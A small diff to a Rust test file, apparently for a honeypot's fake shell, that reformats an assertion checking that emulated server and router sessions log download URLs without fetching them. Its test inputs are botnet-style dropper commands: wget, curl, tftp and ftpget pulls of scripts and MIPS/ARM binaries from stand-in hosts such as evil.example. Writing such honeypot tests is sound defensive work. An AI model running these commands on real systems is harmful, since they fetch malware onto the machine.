@@ -84,7 +84,10 @@ fn here_documents_scripts_and_what_they_leave() {
 fn downloads_are_recorded_and_never_made() {
     let mut sh = server();
     let output = sh.line("cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; curl -O https://evil.example/a?b=1; tftp -g -r arm7 198.51.100.8; busybox x");
-    assert_eq!(urls(&output.events), ["http://198.51.100.7/bins.sh", "https://evil.example/a?b=1", "tftp://198.51.100.8/arm7"]);
+    assert_eq!(
+        urls(&output.events),
+        ["http://198.51.100.7/bins.sh", "https://evil.example/a?b=1", "tftp://198.51.100.8/arm7"]
+    );
     assert!(output.delay_ms > 0 && output.delay_ms <= 4_000);
     let mut sh = router();
     let output = sh.line("/bin/busybox wget 198.51.100.7/m.mips; tftp -g -l m -r m.mips 198.51.100.7; ftpget -u a -p b 198.51.100.7 l r.sh");
